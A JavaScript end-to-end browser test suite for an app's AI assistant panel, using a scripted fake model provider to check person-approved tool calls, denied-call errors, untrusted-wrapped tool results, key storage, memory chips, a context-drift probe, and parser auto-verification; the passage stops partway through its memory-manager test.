// The assistant in a real browser against `sextant serve`, with the scripted provider
// server (real HTTP, Anthropic's SSE wire format) as the model: the model adds a group and
// a gauge through tool calls the person approves in the chat panel, the dashboard shows
// the gauge, a denied call reaches the model as an `Error:` result, and the chat is still
// there after the server restarts; the panel's details (a model count, the model when the
// provider changes, a Markdown image, a call through meta_executeCommand) read right.
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import {
  artifacts, demoProject, repo, requireFile, requireProgram, scriptServer, servedUrl, sextantBin, start, tempDir, waitFor,
} from "./harness.mjs";

const CHROMIUM_ARGS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
  "--disable-component-update", "--disable-sync", "--no-first-run",
];
const API_KEY = "sk-ant-e2e-7f3a91";
let browser, server, provider, dir, dataDir, projectPath, port;

// The prompt's blocks as a person reads them: the system blocks, then the per-request
// blocks that follow the history (after the newest message's cache breakpoint).
function promptBlocks(body) {
  const messages = body.messages;
  const marked = (m) => (Array.isArray(m.content) ? m.content.findLastIndex((b) => b.cache_control) : -1);
  const last = messages.at(-1);
  let tail = [];
  if (last && marked(last) >= 0) tail = last.content.slice(marked(last) + 1);
  else if (messages.length > 1 && marked(messages.at(-2)) >= 0) tail = last.content;
  return [...body.system, ...tail];
}

async function serve() {
  const proc = start(`assistant-serve-${port}-${Date.now()}`, sextantBin, [
    "serve", "--http-port", String(port), "--ui", join(repo, "ui/dist"),
    "--project", projectPath, "--data-dir", dataDir,
  ], { cwd: dir });
  const url = await servedUrl(proc);
  return { url, stop: proc.stop, child: proc.child };
}

async function fresh(url, language = "en") {
  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  await context.addInitScript((l) => {
    localStorage.setItem("sextant.settings", JSON.stringify({ theme: "light", language: l }));
  }, language);
  const p = await context.newPage();
  p.on("pageerror", (e) => console.error("page error:", e.message));
  await p.goto(url);
  await p.waitForSelector(".shell");
  return p;
}

/** Runs a registry command from the page, over its own WebSocket. */
function command(p, name, params = {}) {
  return p.evaluate(([name, params]) => new Promise((resolve, reject) => {
    const ws = new WebSocket(`ws://${location.host}/ws`);
    // The page's own door: prove this launch's secret (kept for the tab) first.
    ws.onopen = () => {
      ws.send(JSON.stringify({ type: "auth", id: 0, token: sessionStorage.getItem("sextant.serverSecret") }));
      ws.send(JSON.stringify({ type: "command", id: 1, command: name, params }));
    };
    ws.onmessage = (ev) => {
      const msg = JSON.parse(ev.data);
      if (msg.type !== "response" || msg.id !== 1) return;
      ws.close();
      msg.success ? resolve(msg.result) : reject(new Error(msg.error.message));
    };
  }), [name, params]);
}

/** Opens the panel's settings and points the assistant at the scripted provider `url` with
 *  `model` (a model of its own per test: the probe keeps compliance per model); `before`
 *  runs on the filled form, before it is saved. */
async function useProvider(p, url, model, before = async () => {}) {
  await p.click('[data-testid="chat-toggle"]');
  await p.click('[data-testid="chat-settings"]');
  await p.selectOption('[data-testid="chat-provider"]', "anthropic");
  await p.fill('[data-testid="chat-base-url"]', url);
  await p.fill('[data-testid="chat-model"]', model);
  await p.fill('[data-testid="chat-api-key"]', API_KEY);
  await before();
  await p.click('[data-testid="chat-settings-save"]');
  await p.locator('[data-testid="chat-settings-message"]').waitFor();
}

const card = (p, id) => p.locator(`[data-testid="tool-card"][data-call-id="${id}"]`);

async function waitStatus(p, id, status) {
  await waitFor(`tool card ${id} to be ${status}`, async () =>
    (await card(p, id).getAttribute("data-status")) === status, 15000);
}

before(async () => {
  requireFile(sextantBin, "build it with `cargo build -p sextant-cli` (./dev test does)");
  requireFile(join(repo, "ui/dist/index.html"), "build the UI with `npm run build` in ui/");
  const chrome = requireProgram("chromium", "chromium");
  dir = tempDir("sextant-assistant-");
  dataDir = join(dir, "assistant");
  // The demo device without its groups: the model builds the dashboard from nothing.
  projectPath = join(dir, "bench.json");
  writeFileSync(projectPath, JSON.stringify({ ...demoProject(), title: "Bench", groups: [], workspaces: [], actions: [] }));
  port = 7900 + Math.floor(Math.random() * 90);
  provider = await scriptServer("e2e/anthropic_gauge.json");
  server = await serve();
  browser = await chromium.launch({ executablePath: chrome, args: CHROMIUM_ARGS });
});

after(async () => {
  await browser?.close();
  server?.stop();
  provider?.stop();
});

test("the Health view: which embedder answers, every stage, a dash where nothing was measured", async () => {
  const page = await fresh(server.url);
  await page.click('[data-testid="chat-toggle"]');
  await page.click('[data-testid="chat-settings"]');
  // Developer figures are under Diagnostics, closed until asked for.
  assert.equal(await page.locator('[data-testid="chat-health"]').count(), 0);
  await page.click('[data-testid="chat-diagnostics-toggle"]');
  const health = page.locator('[data-testid="chat-health"]');
  await health.locator('[data-testid="chat-health-latency"]').waitFor();
  const embedder = (await health.locator('[data-testid="chat-health-embedder"]').innerText()).trim();
  // Every place the model was looked for, in order, each said found or not.
  const places = health.locator('[data-testid="chat-health-searched"] li');
  const searched = await places.evaluateAll((lis) => lis.map((li) => ({ place: li.dataset.place, found: li.dataset.found === "true", text: li.innerText })));
  assert.ok(searched.some((p) => p.place === "userModels"), JSON.stringify(searched));
  assert.ok(searched.some((p) => p.place === "appData" && p.text.includes(dataDir)), JSON.stringify(searched));
  const modelDir = process.env.SEXTANT_EMBEDDING_MODEL_DIR;
  if (modelDir && existsSync(join(modelDir, "model.safetensors"))) {
    assert.ok(searched.some((p) => p.place === "environment" && p.found), JSON.stringify(searched));
  }
  if (searched.some((p) => p.found)) {
    assert.equal(embedder, "By meaning, with a model on this computer");
    assert.match(searched.find((p) => p.found).text, /in use$/);
  } else {
    assert.equal(embedder, "By matching words (built in)");
    assert.match(await health.locator('[data-testid="chat-health-fallback"]').innerText(), /not found/);
    assert.match(await health.locator('[data-testid="chat-health-install"]').innerText(), /models folder/);
  }
  const rows = health.locator('[data-testid="chat-health-latency"] tbody tr');
  assert.equal(await rows.count(), 6, "every stage is listed");
  // This runs first: nothing was retrieved yet, so every latency is a dash, never "0 ms".
  for (const cell of await health.locator('[data-testid="chat-health-latency"] tbody td').allInnerTexts()) {
    assert.equal(cell.trim(), "—");
  }
  const outcomes = await health.locator('[data-testid="chat-health-outcomes"] tbody tr').allInnerTexts();
  assert.equal(outcomes.length, 5);
  assert.match(await health.innerText(), /since Sextant started/i);
  await health.scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(artifacts, "browser-assistant-health-light-en.png") });
  await page.close();
  // The same view in 简体中文: every place named in the person's language.
  const zh = await fresh(server.url, "zh");
  await zh.click('[data-testid="chat-toggle"]');
  await zh.click('[data-testid="chat-settings"]');
  await zh.click('[data-testid="chat-diagnostics-toggle"]');
  const zhHealth = zh.locator('[data-testid="chat-health"]');
  await zhHealth.locator('[data-testid="chat-health-searched"]').waitFor();
  assert.match(await zhHealth.innerText(), /您的模型文件夹/);
  await zhHealth.scrollIntoViewIfNeeded();
  await zh.screenshot({ path: join(artifacts, "browser-assistant-health-light-zh.png") });
  await zh.close();
});

test("the model adds a gauge the person approves; a denied call reaches the model as an Error", async () => {
  const page = await fresh(server.url);
  await page.click('[data-testid="chat-toggle"]');
  await page.click('[data-testid="chat-settings"]');
  await page.selectOption('[data-testid="chat-provider"]', "anthropic");
  await page.fill('[data-testid="chat-base-url"]', provider.url);
  await page.fill('[data-testid="chat-model"]', "claude-e2e");
  await page.fill('[data-testid="chat-api-key"]', API_KEY);
  await page.click('[data-testid="chat-settings-save"]');
  await waitFor("the saved settings", () => readdirSync(dataDir).includes("assistant.json"), 10000);

  await page.click('[data-testid="chat-new"]');
  await page.fill('[data-testid="chat-input"]', "Add a gauge for the engine RPM");
  await page.click('[data-testid="chat-send"]');
  await page.locator('[data-testid="chat-user"]', { hasText: "engine RPM" }).waitFor();

  // Each project edit waits for the person.
  await waitStatus(page, "toolu_e1", "awaiting");
  // In plain words, never the command's name (which is only in a test hook).
  assert.match(await card(page, "toolu_e1").textContent(), /Add a group: “Engine”/);
  assert.doesNotMatch(await card(page, "toolu_e1").textContent(), /project\.group\.add|project_group_add/);
  assert.equal(await card(page, "toolu_e1").locator('[data-testid="tool-title"]').getAttribute("data-command"), "project.group.add");
  assert.match(await card(page, "toolu_e1").textContent(), /Engine/, "the card shows the arguments");
  await card(page, "toolu_e1").locator('[data-testid="tool-approve"]').click();
  await waitStatus(page, "toolu_e1", "ok");
  await waitStatus(page, "toolu_e2", "awaiting");
  await card(page, "toolu_e2").locator('[data-testid="tool-approve"]').click();
  await waitStatus(page, "toolu_e2", "ok");

  // The gauge is on the dashboard beside the chat, and moves once the device runs.
  const gauge = page.locator('[data-testid="widget"][data-widget-kind="gauge"][data-title="RPM"]');
  await gauge.waitFor({ timeout: 15000 });

  // The rename is denied: the model reads why, and the title stays.
  await waitStatus(page, "toolu_e3", "awaiting");
  await card(page, "toolu_e3").locator('[data-testid="tool-deny-reason"]').fill("keep the bench name");
  await card(page, "toolu_e3").locator('[data-testid="tool-deny"]').click();
  await waitStatus(page, "toolu_e3", "denied");
  assert.match(await card(page, "toolu_e3").locator('[data-testid="tool-decision"]').textContent(), /Denied by you: .?keep the bench name/);
  await page.locator('[data-testid="chat-assistant"]', { hasText: "left the project title" }).waitFor({ timeout: 15000 });
  await waitFor("the turn to end", async () => !(await page.locator('[data-testid="chat-stop"]').isVisible()), 10000);
  const project = await command(page, "project.get");
  assert.equal(project.title, "Bench");
  assert.deepEqual(project.groups.map((g) => g.title), ["Engine"]);
  assert.equal(project.groups[0].datasets[0].widget, "gauge");

  await command(page, "io.connect");
  const pixels = () => gauge.locator("canvas").first().evaluate((c) => {
    const d = c.getContext("2d").getImageData(0, 0, c.width, c.height).data;
    let sum = 0;
    for (let k = 0; k < d.length; k += 97) sum = (sum * 31 + d[k]) >>> 0;
    return sum;
  });
  const first = await pixels();
  await waitFor("the gauge to move with live data", async () => (await pixels()) !== first, 15000, 250);
  await page.screenshot({ path: join(artifacts, "browser-assistant-gauge-light-en.png") });
  await command(page, "io.disconnect");

  const requests = await provider.requests();
  assert.equal(requests.length, 4, "one request per model reply");
  for (const r of requests) {
    assert.equal(r.path, "/v1/messages");
    assert.equal(r.headers["x-api-key"], API_KEY, "the key from the settings reaches the provider");
  }
  // The cached prefix (role block and tools) is byte-identical across the turn's requests.
  const prefix = (r) => JSON.stringify([r.body.system[0], r.body.tools]);
  for (const r of requests.slice(1)) assert.equal(prefix(r), prefix(requests[0]));
  const results = requests[3].body.messages.flatMap((m) => (Array.isArray(m.content) ? m.content : []))
    .filter((b) => b.type === "tool_result");
  const denied = results.find((b) => b.tool_use_id === "toolu_e3");
  assert.ok(denied, "the denied call's result is in the next request");
  assert.equal(denied.is_error, true);
  // The result is the tool's words inside the chat's envelope; `is_error` says it failed.
  const deniedText = JSON.stringify(denied.content);
  assert.match(deniedText, /<untrusted-[0-9a-f]+ source=\\"tool:meta_executeCommand\\">\\ndenied: the user declined: keep the bench name\\n<\/untrusted-[0-9a-f]+>/);
  const approved = results.find((b) => b.tool_use_id === "toolu_e2");
  assert.ok(approved && !approved.is_error, "the approved call's result too");

  // The key is in the key store, never in a readable file of the data folder.
  for (const f of readdirSync(dataDir)) {
    assert.ok(!readFileSync(join(dataDir, f)).toString("latin1").includes(API_KEY), `${f} holds the API key`);
  }
  await page.close();
});

test("the chat survives a restart of sextant serve", async () => {
  server.stop();
  await waitFor("the old server to exit", () => server.child.exitCode !== null || server.child.signalCode !== null, 10000);
  server = await serve();
  const page = await fresh(server.url);
  await page.click('[data-testid="chat-toggle"]');
  const item = page.locator('[data-testid="chat-item"]').first();
  await item.waitFor();
  await item.click();
  await page.locator('[data-testid="chat-user"]', { hasText: "engine RPM" }).waitFor();
  await page.locator('[data-testid="chat-assistant"]', { hasText: "left the project title" }).waitFor();
  assert.equal(await card(page, "toolu_e1").getAttribute("data-status"), "ok");
  assert.equal(await card(page, "toolu_e2").getAttribute("data-status"), "ok");
  assert.equal(await card(page, "toolu_e3").getAttribute("data-status"), "denied");
  // Who answered each prompt is part of the chat's record.
  for (const id of ["toolu_e1", "toolu_e2", "toolu_e3"]) {
    assert.equal(await card(page, id).locator('[data-testid="tool-decision"]').getAttribute("data-by"), "person");
  }
  // The model's edits were saved to the project file before the server stopped.
  const project = await command(page, "project.get");
  assert.deepEqual(project.groups.map((g) => g.title), ["Engine"]);
  await page.locator('[data-testid="widget"][data-widget-kind="gauge"][data-title="RPM"]').waitFor();
  await page.click('[data-testid="chat-settings"]');
  assert.equal(await page.inputValue('[data-testid="chat-base-url"]'), provider.url);
  assert.equal(await page.inputValue('[data-testid="chat-model"]'), "claude-e2e");
  assert.equal(await page.inputValue('[data-testid="chat-api-key"]'), "", "the key is never sent back to the page");
  await page.close();
});

test("a reply cut off mid-stream is retried from the panel without retyping", async () => {
  const flaky = await scriptServer("service/anthropic_cut_then_whole.json");
  try {
    const page = await fresh(server.url);
    await page.click('[data-testid="chat-toggle"]');
    await page.click('[data-testid="chat-settings"]');
    await page.fill('[data-testid="chat-base-url"]', flaky.url);
    await page.click('[data-testid="chat-settings-save"]');
    await waitFor("the new address saved", () => readFileSync(join(dataDir, "assistant.json"), "utf8").includes(flaky.url), 10000);
    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "How is the supply?");
    await page.click('[data-testid="chat-send"]');
    // The connection resets mid-reply: the turn fails, clearly, and offers a retry.
    await page.locator('[data-testid="chat-notice"][data-kind*="failed"]').first().waitFor({ timeout: 15000 });
    await page.locator('[data-testid="chat-retry"]').click();
    await page.locator('[data-testid="chat-assistant"]', { hasText: "The supply reads 3.3 V." }).waitFor({ timeout: 15000 });
    await waitFor("the retry button gone", async () => (await page.locator('[data-testid="chat-retry"]').count()) === 0, 10000);
    assert.equal(await page.locator('[data-testid="chat-user"]', { hasText: "How is the supply?" }).count(), 1);
    const requests = await flaky.requests();
    assert.equal(requests.length, 2);
    assert.equal(JSON.stringify(requests[1].body.messages).split("How is the supply?").length - 1, 1, "the question is sent once");
    await page.screenshot({ path: join(artifacts, "browser-assistant-retry-light-en.png") });
    await page.close();
  } finally {
    flaky.stop();
  }
});

test("the panel: a count said right, the provider's own model, an image as a link, the command behind meta_executeCommand", async () => {
  const script = await scriptServer("e2e/anthropic_panel.json");
  try {
    const page = await fresh(server.url);
    // No image is ever fetched: a reply's picture would load the moment it renders.
    const fetched = [];
    page.on("request", (r) => fetched.push(r.url()));
    await page.click('[data-testid="chat-toggle"]');
    await page.click('[data-testid="chat-settings"]');
    await page.selectOption('[data-testid="chat-provider"]', "anthropic");
    await page.fill('[data-testid="chat-base-url"]', script.url);
    await page.click('[data-testid="chat-load-models"]');
    const message = page.locator('[data-testid="chat-settings-message"]');
    await message.waitFor();
    assert.equal((await message.innerText()).trim(), "One model found: claude-e2e-one.");
    assert.equal(await page.inputValue('[data-testid="chat-model"]'), "claude-e2e-one", "the only model is picked");

    // Another provider does not serve this model: the field does not keep it, and
    // switching back brings it back.
    await page.selectOption('[data-testid="chat-provider"]', "openai-compatible");
    assert.equal(await page.inputValue('[data-testid="chat-model"]'), "");
    assert.equal(await page.locator('#chat-model-list option').count(), 0, "the old provider's list is not offered");
    await page.selectOption('[data-testid="chat-provider"]', "anthropic");
    assert.equal(await page.inputValue('[data-testid="chat-model"]'), "claude-e2e-one");
    await page.click('[data-testid="chat-settings-save"]');
    await waitFor("the new address saved", () => readFileSync(join(dataDir, "assistant.json"), "utf8").includes(script.url), 10000);

    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "How is the sensor wired? Then rename the project.");
    await page.click('[data-testid="chat-send"]');

    // A call through meta_executeCommand is shown as the command it runs, with its own
    // arguments: what the person approves.
    await waitStatus(page, "toolu_p1", "awaiting");
    const tool = card(page, "toolu_p1");
    const title = tool.locator('[data-testid="tool-title"]');
    assert.equal(await title.getAttribute("data-command"), "project.setTitle");
    // In plain words, with what it acts on: never the command's name.
    assert.equal((await title.innerText()).trim(), "Rename the project: “Wired bench”");
    assert.deepEqual(JSON.parse(await tool.locator('[data-testid="tool-args"]').textContent()), { title: "Wired bench" });
    await tool.locator('[data-testid="tool-approve"]').click();
    await waitStatus(page, "toolu_p1", "ok");
    await page.locator('[data-testid="chat-assistant"]', { hasText: "now called Wired bench" }).waitFor({ timeout: 15000 });

    // The image: a link reading as its alt text, no stray "!", nothing loaded.
    const reply = page.locator('[data-testid="chat-assistant"]', { hasText: "wiring diagram" });
    const text = await reply.innerText();
    assert.match(text, /wired: wiring diagram\. Now the title\./);
    assert.ok(!text.includes("!"), `a stray "!" in ${JSON.stringify(text)}`);
    assert.equal(await reply.locator("img").count(), 0);
    assert.equal(await reply.locator("a.md-image").getAttribute("href"), "https://img.example/wiring.png");
    assert.deepEqual(fetched.filter((u) => u.includes("img.example")), [], "the image was fetched");
    assert.equal((await command(page, "project.get")).title, "Wired bench");
    await page.screenshot({ path: join(artifacts, "browser-assistant-panel-light-en.png") });
    await page.close();
  } finally {
    script.stop();
  }
});

test("a proposal becomes a fact only when the person presses Remember, and then goes with the next message", async () => {
  const script = await scriptServer("e2e/anthropic_memory.json");
  try {
    const page = await fresh(server.url);
    await useProvider(page, script.url, "claude-e2e", async () => {
      assert.equal(await page.isChecked('[data-testid="chat-memory"]'), true, "memory is on by default");
    });

    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "the IMU talks at 921600 baud");
    await page.click('[data-testid="chat-send"]');
    // The model's proposal is a chip, and nothing is kept yet.
    const chip = page.locator('[data-testid="memory-chip"]');
    await chip.waitFor();
    assert.match(await chip.innerText(), /Use 921600 baud for the IMU/);
    await page.locator('[data-testid="chat-assistant"]', { hasText: "press Remember" }).waitFor();
    await page.screenshot({ path: join(artifacts, "browser-assistant-memory-chip-light-en.png") });
    await page.click('[data-testid="chat-memory-open"]');
    await page.locator('[data-testid="memory-empty"]').waitFor();
    await page.click('[data-testid="chat-memory-open"]');

    // Edit, then Remember: kept, and shown in the manager.
    await chip.locator('[data-testid="memory-chip-edit"]').click();
    await chip.locator('[data-testid="memory-chip-text"]').fill("Use 921600 baud for the IMU on /dev/ttyACM0");
    await chip.locator('[data-testid="memory-chip-remember"]').click();
    await page.locator('[data-testid="memory-chip-kept"]').waitFor();
    await page.click('[data-testid="chat-memory-open"]');
    const fact = page.locator('[data-testid="memory-fact"]');
    await fact.waitFor();
    assert.match(await fact.innerText(), /\/dev\/ttyACM0/);
    await page.screenshot({ path: join(artifacts, "browser-assistant-memory-manager-light-en.png") });

    // The next message carries it, after the cache breakpoint, inside the envelope.
    await page.click('[data-testid="chat-memory-open"]');
    await page.fill('[data-testid="chat-input"]', "which baud for the IMU?");
    await page.click('[data-testid="chat-send"]');
    await page.locator('[data-testid="chat-assistant"]', { hasText: "as you asked me to remember" }).waitFor();
    const requests = await script.requests();
    const last = requests.at(-1).body;
    const system = promptBlocks(last);
    const breakpoint = system.findIndex((b) => b.cache_control);
    const memory = system.findIndex((b) => b.text.includes('source="assistant_memory"'));
    assert.ok(memory > breakpoint && breakpoint >= 0, "the memory block follows the cache breakpoint");
    assert.match(system[memory].text, /921600 baud for the IMU on \/dev\/ttyACM0/);

    // Reloaded, the chip stays answered.
    await page.reload();
    await page.waitForSelector(".shell");
    if (!(await page.locator('[data-testid="chat-panel"], .chat-panel').count())) await page.click('[data-testid="chat-toggle"]');
    await page.locator('[data-testid="chat-item"]').first().click();
    await page.locator('[data-testid="chat-user"]', { hasText: "921600" }).first().waitFor();
    await page.locator('[data-testid="memory-chip-kept"]').waitFor();
    assert.equal(await page.locator('[data-testid="memory-chip"]').count(), 0);
    // The retrievals that built those requests are in the Health view now.
    await page.click('[data-testid="chat-settings"]');
    await page.click('[data-testid="chat-diagnostics-toggle"]');
    const total = page.locator('[data-testid="chat-health-latency"] tr[data-stage="total"] td').first();
    await total.waitFor();
    assert.match(await total.innerText(), /ms$/);
    await page.close();
  } finally {
    script.stop();
  }
});

test("the context probe: no text the page ever shows has the sentinel; a drifted anchor raises the banner; Start fresh chat carries the digest", async () => {
  const script = await scriptServer("e2e/anthropic_probe.json");
  try {
    const page = await fresh(server.url);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    // Every text the chat ever showed, recorded at each DOM change.
    await page.evaluate(() => {
      window.__shown = [];
      new MutationObserver(() => {
        const panel = document.querySelector('[data-testid="chat-panel"]');
        if (panel) window.__shown.push(panel.textContent);
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    // A model of its own: the compliance of the other tests' models is theirs.
    await useProvider(page, script.url, "claude-probe-e2e", async () => {
      assert.equal(await page.isChecked('[data-testid="chat-context-probe"]'), true, "the probe is on by default");
      assert.equal(await page.isChecked('[data-testid="chat-handoff-seeding"]'), true, "handoff seeding is on by default");
    });

    await page.click('[data-testid="chat-new"]');
    const replies = [
      ["how is the supply?", "The supply reads 3.3 V."],
      ["are the gauges placed?", "Both gauges are on the Overview."],
      ["更新仪表盘", "仪表盘已更新：温度和湿度。"],
    ];
    for (const [question, answer] of replies) {
      await page.fill('[data-testid="chat-input"]', question);
      await page.click('[data-testid="chat-send"]');
      await page.locator('[data-testid="chat-assistant"]', { hasText: answer }).waitFor({ timeout: 15000 });
      await waitFor("the turn to end", async () => (await page.locator('[data-testid="chat-stop"]').count()) === 0, 15000);
    }
    const shown = await page.evaluate(() => window.__shown);
    assert.ok(shown.some((t) => t.includes("The supply ") && !t.includes("reads 3.3 V")), "the page rendered the reply as it streamed");
    for (const text of shown) {
      assert.ok(!text.includes("SXT-PROBE") && !text.includes("[["), `shown: ${JSON.stringify(text.slice(-200))}`);
    }
    assert.equal(await page.locator('[data-testid="chat-degraded"]').count(), 0, "healthy: no banner");
    // Copy gives the clean text.
    const first = page.locator('[data-testid="chat-assistant"]').first();
    await first.hover();
    await first.locator('[data-testid="chat-copy"]').click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "The supply reads 3.3 V.");

    // A drifted anchor after three healthy replies: the banner names it; typing goes on.
    await page.fill('[data-testid="chat-input"]', "rename the project to Bench A");
    await page.click('[data-testid="chat-send"]');
    const banner = page.locator('[data-testid="chat-degraded"]');
    await banner.waitFor({ timeout: 15000 });
    assert.equal(await banner.locator('[data-testid="chat-degraded-text"]').innerText(), "Context may be degrading: mutated `idsfresh`");
    await page.fill('[data-testid="chat-input"]', "still typing");
    assert.equal(await page.inputValue('[data-testid="chat-input"]'), "still typing");
    await page.screenshot({ path: join(artifacts, "browser-assistant-probe-banner-light-en.png") });
    // Reloaded: the banner comes back (folded from the log).
    await page.reload();
    await page.waitForSelector(".shell");
    if (!(await page.locator('[data-testid="chat-panel"]').count())) await page.click('[data-testid="chat-toggle"]');
    await banner.waitFor();

    // Start fresh chat: a new chat, no banner, and its first request carries the digest.
    const before = await page.locator('[data-testid="chat-item"]').count();
    await page.click('[data-testid="chat-start-fresh"]');
    await waitFor("the fresh chat", async () => (await page.locator('[data-testid="chat-item"]').count()) === before + 1, 10000);
    await page.locator('[data-testid="chat-notice"][data-kind="handoff_seeded"]').waitFor();
    assert.equal(await banner.count(), 0);
    await page.fill('[data-testid="chat-input"]', "where were we?");
    await page.click('[data-testid="chat-send"]');
    await page.locator('[data-testid="chat-assistant"]', { hasText: "the project is Bench A" }).waitFor({ timeout: 15000 });
    const requests = await script.requests();
    assert.equal(requests.length, 5);
    const body = requests[4].body;
    const blocks = promptBlocks(body);
    const breakpoint = blocks.findIndex((b) => b.cache_control);
    const seed = blocks.findIndex((b) => b.text.includes('source="previous_chat"'));
    assert.ok(breakpoint >= 0 && seed > breakpoint, "the digest follows the cache breakpoint");
    assert.match(blocks[seed].text, /- rename the project to Bench A/);
    const prefix = (b) => JSON.stringify([b.system.slice(0, breakpoint + 1), b.tools]);
    assert.equal(prefix(body), prefix(requests[0].body), "the cached prefix is the old chat's, byte for byte");
    await page.close();
  } finally {
    script.stop();
  }
});

test("auto-verify: broken parser code gets ✗ in the same turn, and Restore checkpoint… brings the previous parser back", async () => {
  const script = await scriptServer("e2e/anthropic_verify.json");
  try {
    const page = await fresh(server.url);
    const before = await command(page, "project.frameParser.get", {});
    await useProvider(page, script.url, "claude-verify-e2e");
    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "parse my CSV lines");
    await page.click('[data-testid="chat-send"]');
    await card(page, "toolu_v1").locator('[data-testid="tool-approve"]').click({ timeout: 15000 });
    await waitStatus(page, "toolu_v1", "ok");
    await page.locator('[data-testid="chat-assistant"]', { hasText: "The parser is set." }).waitFor({ timeout: 15000 });
    // What the model read in that same turn: the check failed, with the compile error's line.
    const requests = await script.requests();
    const result = JSON.stringify(requests[1].body.messages.at(-1));
    assert.match(result, /verification/);
    assert.match(result, /line 3/);
    const badge = card(page, "toolu_v1").locator('[data-testid="tool-verify"]');
    await badge.waitFor();
    assert.equal(await badge.getAttribute("data-ok"), "false");
    assert.match(await card(page, "toolu_v1").locator('[data-testid="tool-verify-detail"]').innerText(), /line 3/);
    const changed = await command(page, "project.frameParser.get", {});
    assert.notDeepEqual(changed.parser, before.parser, "the broken code was stored");
    await page.screenshot({ path: join(artifacts, "browser-assistant-verify-failed-light-en.png") });
    // Restore checkpoint…: the normal confirmation, naming the step in plain words; yes restores it.
    await card(page, "toolu_v1").locator('[data-testid="tool-restore"]').click();
    const dialog = page.locator('[data-testid="confirm-dialog"]');
    await dialog.waitFor();
    assert.match(await dialog.innerText(), /just before “Change the frame parser's code”/);
    await page.click('[data-testid="confirm-yes"]');
    await waitFor("the previous parser back", async () =>
      JSON.stringify((await command(page, "project.frameParser.get", {})).parser) === JSON.stringify(before.parser), 10000);
    await page.close();
  } finally {
    script.stop();
  }
});

test("a message that names a domain gets its skill: a chip on the message, the synthetic pair in the request", async () => {
  const script = await scriptServer("e2e/anthropic_verify.json");
  try {
    const page = await fresh(server.url);
    await useProvider(page, script.url, "claude-skill-e2e", async () => {
      assert.equal(await page.isChecked('[data-testid="chat-skill-routing"]'), true, "skill routing is on by default");
      assert.equal(await page.isChecked('[data-testid="chat-auto-verify"]'), true, "auto-verify is on by default");
      for (const id of ["focus-prompt", "intent-narrowing", "tool-result-compression", "topic-compaction", "topic-marker"]) {
        assert.equal(await page.isChecked(`[data-testid="chat-${id}"]`), true, `${id} is on by default`);
      }
    });
    await page.click('[data-testid="chat-new"]');
    await page.fill('[data-testid="chat-input"]', "help me write a frame parser for my CSV lines");
    await page.click('[data-testid="chat-send"]');
    // The scripted model's first reply is a call; deny it, the turn goes on to its answer.
    await card(page, "toolu_v1").locator('[data-testid="tool-deny"]').click({ timeout: 15000 });
    await page.locator('[data-testid="chat-assistant"]', { hasText: "The parser is set." }).waitFor({ timeout: 15000 });
    const chip = page.locator('[data-testid="chat-skill"]');
    await chip.waitFor();
    assert.equal(await chip.getAttribute("data-skill"), "frame-parsers");
    assert.equal((await chip.innerText()).trim(), "skill: frame parsers");
    assert.equal(await page.locator('[data-testid="tool-card"][data-call-id="sxt_skill_frame_parsers"]').count(), 0, "no card for the app's own load");
    const first = (await script.requests())[0].body;
    // The focus rules are in the cached role block, in the UI's language (English here).
    assert.match(first.system[0].text, /\n## Focus\n/);
    const uses = first.messages.flatMap((m) => (Array.isArray(m.content) ? m.content : [])).filter((b) => b.type === "tool_use");
    assert.deepEqual(uses.map((b) => [b.name, b.input.name]), [["meta_loadSkill", "frame-parsers"]]);
    await page.close();
  } finally {
    script.stop();
  }
});

test("the focus rules follow the UI's language, and switching them off removes them from the request", async () => {
  const script = await scriptServer("service/anthropic_never_compliant.json");
  try {
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    await context.addInitScript(() => {
      localStorage.setItem("sextant.settings", JSON.stringify({ theme: "light", language: "zh" }));
    });
    const page = await context.newPage();
    page.on("pageerror", (e) => console.error("page error:", e.message));
    await page.goto(server.url);
    await page.waitForSelector(".shell");
    await useProvider(page, script.url, "claude-focus-e2e");
    const send = async (text, n) => {
      await page.fill('[data-testid="chat-input"]', text);
      await page.click('[data-testid="chat-send"]');
      await waitFor(`request ${n}`, async () => (await script.requests()).length >= n, 15000);
      await page.locator('[data-testid="chat-assistant"]', { hasText: `(${n})` }).waitFor({ timeout: 15000 });
    };
    await page.click('[data-testid="chat-new"]');
    await send("把仪表盘的布局改成两列", 1);
    const zh = (await script.requests())[0].body.system[0].text;
    assert.match(zh, /\n## 聚焦准则\n/, "the Chinese focus rules for a Chinese UI");
    assert.doesNotMatch(zh, /## Focus/);
    // Off in the panel's settings: not a byte of either in the next request.
    await page.click('[data-testid="chat-settings"]');
    await page.uncheck('[data-testid="chat-focus-prompt"]');
    await page.click('[data-testid="chat-settings-save"]');
    await page.locator('[data-testid="chat-settings-message"]').waitFor();
    await page.click('[data-testid="chat-new"]');
    await send("你好", 2);
    const off = JSON.stringify((await script.requests())[1].body);
    assert.ok(!off.includes("聚焦准则") && !off.includes("## Focus"), "no focus section when off");
    await context.close();
  } finally {
    script.stop();
  }
});

test("the memory manager: remember a message, edit, delete, forget everything after a confirmation", async () => {
  const page = await fresh(server.url);
  await page.click('[data-testid="chat-toggle"]');
  // "Remember this" on a message of the person's (the earlier tests left chats).
  await page.locator('[data-testid="chat-item"]').first().click();
  const message = page.locator('[data-testid="chat-user"]').first();
  await message.waitFor();
  await message.hover();
  await message.locator('[data-testid="chat-remember"]').click();
  const chip = page.locator('[data-testid="memory-chip"]').first();
  await chip.locator('[data-testid="memory-chip-remember"]').click();
  await page.locator('[data-testid="memory-chip-kept"]').first().waitFor();

  await page.click('[data-testid="chat-memory-open"]');
  const facts = page.locator('[data-testid="memory-fact"]');
  await waitFor("the remembered message in the manager", async () => (await facts.count()) >= 2, 10000);
  const before = await facts.count();
  // Add one by hand, with a secret in it: kept without the secret.
